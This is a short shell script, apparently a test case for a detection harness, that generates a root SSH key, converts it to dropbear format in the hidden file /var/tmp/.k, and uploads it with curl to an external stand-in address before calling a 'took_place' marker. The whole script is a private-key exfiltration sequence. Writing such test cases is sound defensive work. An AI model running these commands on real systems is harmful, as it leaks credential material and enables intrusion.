#!/bin/sh
. /opt/case/case.sh

ssh-keygen -q -t ed25519 -N '' -f /root/.ssh/id_ed25519
dropbearconvert openssh dropbear /root/.ssh/id_ed25519 /var/tmp/.k 2>/dev/null
curl -sf -T /var/tmp/.k http://203.0.113.10:8080/k >/dev/null
took_place
